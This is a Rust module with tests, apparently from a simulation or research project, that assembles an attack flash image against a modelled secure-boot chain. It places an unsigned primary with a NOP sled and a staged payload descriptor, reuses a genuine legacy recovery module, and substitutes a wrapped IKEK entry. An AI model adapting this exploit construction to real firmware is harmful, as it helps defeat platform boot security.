// Licensed under the Apache-2.0 license

//! Malicious flash layout: an unsigned primary that stages the payload in
//! SRAM, followed by a genuine legacy recovery module and a swapped IKEK.

use super::{
    make_ikek_entry, signed_message, AuthScheme, EntryType, FirmwareError, FirmwareModule,
    FlashImage,
};
use crate::crypto::{PublicKey, SignatureScheme, SymmetricKey128, AES_BLOCK};

pub const PAYLOAD_MAGIC: [u8; 8] = *b"ASIMPAY!";
pub const RELOC_STUB_MARKER: [u8; 4] = *b"RELO";
/// `mov r0, r0`.
pub const NOP_WORD: u32 = 0xE1A0_0000;
/// Where the payload descriptor sits in SRAM once the primary was copied.
pub const ATTACK_PAYLOAD_ADDR: u32 = 0x20000;

const DESCRIPTOR_HEADER_LEN: usize = PAYLOAD_MAGIC.len() + 4 + RELOC_STUB_MARKER.len();

/// `magic (8) | payload_id (u32) | "RELO" | body`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadDescriptor {
    pub payload_id: u32,
    pub body: Vec<u8>,
}

impl PayloadDescriptor {
    pub fn new(payload_id: u32) -> Self {
        PayloadDescriptor {
            payload_id,
            body: Vec::new(),
        }
    }

    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = PAYLOAD_MAGIC.to_vec();
        out.extend_from_slice(&self.payload_id.to_le_bytes());
        out.extend_from_slice(&RELOC_STUB_MARKER);
        out.extend_from_slice(&self.body);
        out
    }

    /// Payload id if `bytes` starts with a descriptor.
    pub fn probe(bytes: &[u8]) -> Option<u32> {
        if bytes.len() < DESCRIPTOR_HEADER_LEN || bytes[..8] != PAYLOAD_MAGIC || bytes[12..16] != RELOC_STUB_MARKER {
            return None;
        }
        Some(u32::from_le_bytes(bytes[8..12].try_into().unwrap()))
    }
}

/// Placement of the primary body around [`ATTACK_PAYLOAD_ADDR`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct AttackLayout {
    /// Octets of NOP words placed before the descriptor. The primary is
    /// loaded at `ATTACK_PAYLOAD_ADDR - sled_len`, so the descriptor
    /// always lands at `ATTACK_PAYLOAD_ADDR`.
    pub sled_len: u32,
}

impl AttackLayout {
    pub fn exact() -> Self {
        AttackLayout { sled_len: 0 }
    }

    pub fn with_sled(sled_len: u32) -> Self {
        assert!(sled_len.is_multiple_of(4) && sled_len <= ATTACK_PAYLOAD_ADDR, "sled must be whole words below the payload");
        AttackLayout { sled_len }
    }

    pub fn primary_load_addr(&self) -> u32 {
        ATTACK_PAYLOAD_ADDR - self.sled_len
    }
}

/// Builds the three-entry attack flash. The recovery module is copied
/// verbatim; only the IKEK entry changes what it decrypts to.
pub fn craft_attack_image(
    collision_ikek: &SymmetricKey128,
    legacy_recovery: &FirmwareModule,
    payload: &PayloadDescriptor,
    bootrom_key: &SymmetricKey128,
    layout: AttackLayout,
) -> Result<FlashImage, FirmwareError> {
    if !legacy_recovery.header.encrypted() {
        return Err(FirmwareError::NotLegacyEncrypted);
    }
    let key = PublicKey::from_bytes(SignatureScheme::RsaPss4096Sha384, &legacy_recovery.header.signer_key)
        .map_err(|_| FirmwareError::NotLegacyEncrypted)?;
    let msg = signed_message(legacy_recovery, AuthScheme::Zen3Milan, &[]);
    if !key.verify(&msg, &legacy_recovery.header.signature) {
        return Err(FirmwareError::NotLegacyEncrypted);
    }

    assemble_attack_image(
        collision_ikek,
        legacy_recovery,
        payload,
        bootrom_key,
        layout,
        AuthScheme::Zen3Milan,
    )
}

/// [`craft_attack_image`] without the recovery checks and with the IKEK
/// entry built for `scheme`. Lets the same layout be tried against every
/// generation.
pub fn assemble_attack_image(
    collision_ikek: &SymmetricKey128,
    recovery: &FirmwareModule,
    payload: &PayloadDescriptor,
    bootrom_key: &SymmetricKey128,
    layout: AttackLayout,
    scheme: AuthScheme,
) -> Result<FlashImage, FirmwareError> {
    let mut body = Vec::with_capacity(layout.sled_len as usize + 64 + payload.body.len());
    for _ in 0..layout.sled_len / 4 {
        body.extend_from_slice(&NOP_WORD.to_le_bytes());
    }
    body.extend_from_slice(&payload.to_bytes());
    body.resize(body.len().next_multiple_of(AES_BLOCK), 0);
    // Unsigned; the size fields are simply set to whatever was written.
    let primary = FirmwareModule::new(0, layout.primary_load_addr(), body);

    FlashImage::from_parts(vec![
        (EntryType::PrimaryBootloader, primary.to_bytes()),
        (EntryType::RecoveryBootloader, recovery.to_bytes()),
        (
            EntryType::WrappedIkek,
            make_ikek_entry(collision_ikek, bootrom_key, scheme).to_bytes(),
        ),
    ])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::crypto::SignatureKeyPair;
    use crate::firmware::{encrypt_module, sign_module, verify_module};

    fn legacy(vendor: &SignatureKeyPair, ikek: &SymmetricKey128) -> FirmwareModule {
        let m = FirmwareModule::new(0, 0x1000, vec![0x33; 128]);
        let enc = encrypt_module(&m, &SymmetricKey128::new([7; 16]), [3; 16], ikek).unwrap();
        sign_module(&enc, vendor, AuthScheme::Zen3Milan, None).unwrap()
    }

    #[test]
    fn descriptor_probe() {
        let d = PayloadDescriptor {
            payload_id: 0xBEEF,
            body: b"xyz".to_vec(),
        };
        assert_eq!(PayloadDescriptor::probe(&d.to_bytes()), Some(0xBEEF));
        assert_eq!(PayloadDescriptor::probe(&d.to_bytes()[..15]), None);
        assert_eq!(PayloadDescriptor::probe(&[0; 32]), None);
    }

    #[test]
    fn attack_image_shape() {
        let vendor = SignatureKeyPair::generate_rsa(0xA11CE);
        let ikek = SymmetricKey128::new([1; 16]);
        let bootrom = SymmetricKey128::new([2; 16]);
        let rec = legacy(&vendor, &ikek);
        for layout in [AttackLayout::exact(), AttackLayout::with_sled(0x400)] {
            let img = craft_attack_image(&SymmetricKey128::new([9; 16]), &rec, &PayloadDescriptor::new(1), &bootrom, layout)
                .unwrap();
            let parsed = FlashImage::parse(&img.serialize()).unwrap();
            let types: Vec<u32> = parsed.entries().iter().map(|e| e.entry_type.code()).collect();
            assert_eq!(types, vec![0x1, 0x3, 0x21]);

            let primary = parsed.module(EntryType::PrimaryBootloader).unwrap().unwrap();
            assert_eq!(primary.header.load_addr + layout.sled_len, ATTACK_PAYLOAD_ADDR);
            assert_eq!(primary.header.image_size as usize, primary.body.len());
            assert_eq!(
                PayloadDescriptor::probe(&primary.body[layout.sled_len as usize..]),
                Some(1)
            );
            assert!(verify_module(&primary, AuthScheme::Zen3Milan, None).is_err());

            let recovery = parsed.module(EntryType::RecoveryBootloader).unwrap().unwrap();
            assert_eq!(recovery, rec);
            assert!(verify_module(&recovery, AuthScheme::Zen3Milan, Some(&ikek)).is_ok());
        }
    }

    #[test]
    fn rejects_plain_or_unsigned_recovery() {
        let vendor = SignatureKeyPair::generate_rsa(0xA11CE);
        let plain = sign_module(&FirmwareModule::new(0, 0x1000, vec![0; 32]), &vendor, AuthScheme::Zen3Milan, None).unwrap();
        let k = SymmetricKey128::new([0; 16]);
        let err = craft_attack_image(&k, &plain, &PayloadDescriptor::new(1), &k, AttackLayout::exact());
        assert_eq!(err, Err(FirmwareError::NotLegacyEncrypted));

        let mut tampered = legacy(&vendor, &k);
        tampered.body[0] ^= 1;
        let err = craft_attack_image(&k, &tampered, &PayloadDescriptor::new(1), &k, AttackLayout::exact());
        assert_eq!(err, Err(FirmwareError::NotLegacyEncrypted));
    }
}
